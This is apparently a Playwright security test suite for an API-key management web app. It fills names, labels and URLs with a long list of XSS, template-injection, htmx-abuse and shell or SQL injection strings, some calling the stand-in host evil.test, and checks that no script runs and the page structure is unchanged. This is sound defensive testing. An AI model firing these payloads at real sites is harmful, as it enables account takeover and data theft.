import { test, expect, api, key } from './site.mjs'

// run is what a text runs that a page takes for more than text. laid makes it known,
// as the watch over each page does with alert and with a request to evil.test.
const run = 'pwn()'

// code runs where a page takes text for HTML, JavaScript, CSS, a URL, a template or
// for what htmx or an element of ours obeys.
const code = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script src=//evil.test/x.js></script>`, `<script src=data:,pwn()></script>`, `<script>${run}//`,
  `"><script>${run}</script>`, `'><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, `</script><script>${run}</script>`,
  `</textarea><script>${run}</script>`, `</select><script>${run}</script>`, `</noscript><script>${run}</script>`, `</template><script>${run}</script>`, `--><script>${run}</script>`,
  `]]><script>${run}</script>`, `<!--><script>${run}</script>-->`, `<img src=x onerror=${run}>`, `"><img src=x onerror="${run}">`, `'><img src=x onerror='${run}'>`, `<img src=//evil.test/p.png>`,
  `<img/src="x"/onerror=${run}>`, `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributeName=x>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`, `<svg><style><img title="</style><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<math href="javascript:${run}">x</math>`, `<math><mi xlink:href="data:text/html,<script>${run}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<a id="<b><p title='</b><img src=x onerror=${run}>'>">`, `<listing>&lt;img src=x onerror=${run}&gt;</listing>`, `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`, `<iframe src="javascript:${run}">`, `<iframe srcdoc="<script>${run}</script>">`, `<iframe src=//evil.test></iframe>`,
  `<object data="javascript:${run}">`, `<embed src="data:text/html,<script>${run}</script>">`, `<link rel=stylesheet href=//evil.test/x.css>`, `<base href="//evil.test/">`,
  `<meta http-equiv=refresh content="0;url=//evil.test">`, `<body onload=${run}>`, `<details open ontoggle=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>`, `<p onanimationstart=${run} class=spinner>`, `<button formaction="javascript:${run}">x`,
  `<form action=//evil.test><input name=x>`, `<a href="javascript:${run}">x</a>`, `<a href="//evil.test" ping="//evil.test/ping">x</a>`, `<dialog open onclose=${run}>`,
  `" onmouseover="${run}`, `' onmouseover='${run}`, `" autofocus onfocus="${run}" x="`, `" style="background:url(//evil.test/a)`, `x onfocus=${run} autofocus`, '` onmouseover=`' + run,
  `<style>*{background:url(//evil.test/b)}</style>`, `<style>@import '//evil.test/c.css';</style>`, `<div style="background:url(//evil.test/d)">`, `url(javascript:${run})`, `expression(${run})`, `}*{display:none}`,
  `javascript:${run}`, `JaVaScRiPt:${run}`, `javascript&colon;${run}`, `&#106;avascript:${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`,
  `//evil.test/e`, `https://evil.test/f`, `/\\evil.test`,
  `";${run};"`, `';${run};'`, `\\";${run};//`, `\\u003cscript\\u003e${run}`, `"}</script><script>${run}</script>`, `{"name":"x"},{"name":"y"}`, `","role":"admin","x":"`, '`${' + run + '}`',
  `{{7*7}}`, `{{constructor.constructor('${run}')()}}`, `\${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{{template "x"}}`, `{!! 7*7 !!}`, `[[7*7]]`, `@{7*7}`, `{% raw %}`, `\${jndi:ldap://evil.test/a}`,
  `<div hx-get="//evil.test/g" hx-trigger="load">`, `<div hx-on:load="${run}">`, `<div hx-on--load="${run}">`, `hx-on:click=${run}`, `<div hx-get="/keys" hx-vals="js:{a:${run}}" hx-trigger="load">`, `js:${run}`,
  `<div hx-post="/sign-out/everywhere" hx-trigger="load">`, `" hx-get="/settings" hx-trigger="load`, `<div hx-ext="x" hx-swap-oob="true" id="main">`, `<hx-partial id="main">`, `<key-pair>`, `<reveal-once data-after="//evil.test">`, `<copy-text data-value=x><button>`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;img src=x onerror=${run}&#62;`, `&amp;lt;b&amp;gt;`, `&quot;&apos;&#x22;`, `&NewLine;&Tab;&nbsp;`, `%3Cscript%3E${run}%3C/script%3E`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
]

// texts are hard to write, to find or to show.
const texts = [
  '"', "'", '\u2018\u2019\u201c\u201d\u00ab\u00bb\u201e\u2033', '```', '\\', '\\"\\\'', `' OR 1=1; DROP TABLE keys; --`, '%', '%00', '%0d%0aSet-Cookie: x=1', '%s%n%x', '*', '?', '#', '&', 'a&b=c', 'a+b c', '?q=1#x',
  '../../etc/passwd', '..%2f..%2f', '.', '..', '/', '//', 'null', 'undefined', 'true', '0', '__proto__', 'constructor', '[object Object]', '=HYPERLINK("//evil.test","x")', '$(id)', '; rm -rf /', '<', '>', '<>', '<!--', '-->', '<![CDATA[', ']]>', '<?php',
  '\u0645\u0641\u062a\u0627\u062d \u0627\u0644\u0641\u0648\u0627\u062a\u064a\u0631', '\u05de\u05e4\u05ea\u05d7 abc 123', '\u{1F511}\u{1F9D1}\u{1F3FD}\u{1F1E8}\u{1F1ED}', 'Z\u0334\u0321\u0322\u0323\u0324a\u0334\u0321\u0322go\u0336\u0337', '\u1e9b\u0323',
  '\u0130I\u0131i', '\ufdfd', '\u{12031}', '\ud55c\uad6d\uc5b4 \u65e5\u672c\u8a9e', '\u0e01\u0e33\u0e33\u0e33', 'W'.repeat(100), '\u{1F511}'.repeat(100), 'a\u0301\u0302\u0303\u0304'.repeat(20), 'x'.repeat(99) + '<', '"'.repeat(100),
]

// refused are no names: what nobody sees would change what is read.
const refused = ['\u202egnp.exe', '\u2066<b>\u2069', 'a\u200bb', 'a\u200db', 'a\ufeffx', 'a\u00adx', '\u001b[31mred', '\u001b]8;;//evil.test\u0007x', 'a\u0000b', 'a\r\nSet-Cookie: x=1', 'a\u2028b', 'a\u{e0041}b', '   ', 'x'.repeat(101)]

const hostile = [...code, ...texts]

// laid has a page make known what a text should not be able to do.
async function laid(page) {
  const seen = []
  await page.exposeFunction('seen', (what) => { seen.push(what) })
  await page.addInitScript(() => {
    globalThis.pwn = () => globalThis.seen('a script ran')
    addEventListener('securitypolicyviolation', (e) => globalThis.seen(`policy: ${e.effectiveDirective} ${e.blockedURI} ${e.sample}`))
  })
  return seen
}

// read is what a page says. Its shape is what it consists of but for its texts: its
// elements and the names of their attributes, in order. A text that is but text does
// not change it.
const read = (page) => page.evaluate(() => ({
  h1: document.querySelector('h1').textContent, title: document.title, main: document.querySelector('main').textContent, lines: document.querySelector('.as-lines')?.textContent,
  shape: [...document.querySelectorAll('*')].map((e) => [e.localName, ...e.getAttributeNames()].join(' ')).join('\n'),
}))

const go = (page, path) => page.goto(path, { waitUntil: 'domcontentloaded' })

// made are the keys of the hostile texts, each everywhere where a text may stand.
async function made() {
  const out = []
  const waiting = [...hostile]
  await Promise.all(Array.from({ length: 4 }, async () => {
    for (let text = waiting.shift(); text !== undefined; text = waiting.shift()) {
      const { key: k } = await key({ name: text, owner: text, description: text + '\n' + text, labels: { note: text, constructor: text, 'hx-on/click': text },
        scopes: ['s:' + text.replace(/[^\x21\x23-\x5b\x5d-\x7e]|[*|]/g, '')], audiences: ['https://api.example.com/' + encodeURIComponent([...text].slice(0, 40).join(''))] })
      expect(k.name).toBe(text.normalize('NFC'))
      out.push(k)
    }
  }))
  return out
}

const overview = (k) => `/keys/${k.id}`
const others = [(k) => `/keys/${k.id}?tab=credentials`, (k) => `/keys/${k.id}?tab=usage`, (k) => `/keys/${k.id}?tab=events`, (k) => `/keys/${k.id}?tab=code`, (k) => `/keys/${k.id}?tab=danger`,
  (k) => `/keys/${k.id}/edit`, (k) => `/keys/${k.id}/rotate`, (k) => `/keys/${k.id}/disable`, (k) => `/keys/${k.id}/revoke`, (k) => `/keys/${k.id}/first-token`]

test('what would run is seen', async ({ context, session }) => {
  await context.addCookies(session)
  const page = await context.newPage()
  const seen = await laid(page)
  await go(page, '/keys')
  await page.evaluate(() => { globalThis.pwn() })
  await page.evaluate(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=pwn()><img src=//evil.test/p.png>') })
  await expect.poll(() => seen.join()).toMatch(/a script ran.*policy: script-src-attr|policy: img-src/)
})

test('names, labels and all else that people write are text on every page', async ({ site }) => {
  test.slow()
  expect(new Set(hostile).size).toBeGreaterThanOrEqual(150)
  const seen = await laid(site)
  const keys = await made()
  const { key: plain } = await key({ name: 'plain', owner: 'plain', description: 'plain\nplain', labels: { note: 'plain', constructor: 'plain', 'hx-on/click': 'plain' }, scopes: ['s:plain'], audiences: ['https://api.example.com/plain'] })

  await test.step('the page of each', async () => {
    await go(site, overview(plain))
    const want = await read(site)
    for (const k of keys) {
      await go(site, overview(k))
      const got = await read(site)
      expect(got).toMatchObject({ h1: k.name, title: k.name + ' - TokenOS keys', lines: k.description })
      for (const text of [k.owner, k.labels.note, k.scopes[0], k.audiences[0]]) expect(got.main).toContain(text)
      expect(got.shape, k.name).toBe(want.shape)
    }
  })

  await test.step('its other pages', async () => {
    for (const [i, path] of others.entries()) {
      await go(site, path(plain))
      const want = await read(site)
      for (const k of keys.filter((_, at) => at % (2 * others.length) === i)) {
        await go(site, path(k))
        const got = await read(site)
        expect(got.main, path(k)).toContain(k.name)
        expect(got.shape, k.name + ' at ' + path(k)).toBe(want.shape)
      }
    }
  })

  await test.step('the lists', async () => {
    const names = new Set()
    for (const first of ['/', '/activity', '/keys']) {
      await go(site, first)
      for (let more = true; more;) {
        for (const name of await site.locator('main :is(th, td, li) a, main summary, main .key-name').allTextContents()) names.add(name)
        const next = site.getByRole('link', { name: 'Next' })
        if ((more = await next.count() > 0)) await go(site, await next.getAttribute('href'))
      }
    }
    for (const k of keys) expect(names).toContain(k.name)
  })

  await test.step('addresses', async () => {
    for (const [i, text] of hostile.filter((_, at) => at % 3 === 0).entries()) {
      const q = encodeURIComponent(text)
      await go(site, ['/keys?q=' + q, `/keys?owner=${q}&scope=${q}`, '/keys?label=note:' + q, `/activity?key=${q}&principal=${q}`, `/keys?status=${q}&sort=${q}&cursor=${q}`, '/keys/' + q, '/' + q + '?' + q, '/sign-in?return=' + q][i % 8])
      expect(await site.locator('script:not([src]), iframe, object, embed, base, math, marquee, [onerror], [onload], main style, main script:not([src^="/"])').count(), text).toBe(0)
    }
  })

  await test.step('secrets', async () => {
    let want
    for (const text of ['plain', ...hostile.filter((_, at) => at % 20 === 0)]) {
      await go(site, '/keys/new')
      await site.evaluate((text) => {
        const form = document.getElementById('new-key')
        for (const name of ['name', 'owner', 'description']) form.elements[name].value = text
        form.elements.labels.value = 'note=' + text
        form.elements.scopes.value = 'orders:read'
        form.submit()
      }, text)
      await expect(site.getByRole('button', { name: 'Download .env' })).toBeVisible()
      await site.getByLabel('I have stored the secret').check()
      const got = await read(site)
      want ??= got
      expect(got.main).toContain('Keys / ' + text)
      expect(got.shape, text).toBe(want.shape)
    }
  })

  await test.step('forms that are shown again', async () => {
    for (const text of refused) {
      await go(site, '/keys/new')
      await site.evaluate(([text, hostile]) => {
        const form = document.getElementById('new-key')
        const all = hostile.join('\n')
        for (const name of ['name', 'owner', 'description', 'scopes']) form.elements[name].value = text
        form.elements.labels.value = form.elements.audiences.value = all
        form.submit()
      }, [text, hostile])
      await expect(site.getByRole('alert')).toBeVisible()
      expect(await site.getByLabel('Labels').inputValue()).toBe(hostile.join('\n'))
    }
  })
  expect(seen).toEqual([])
})
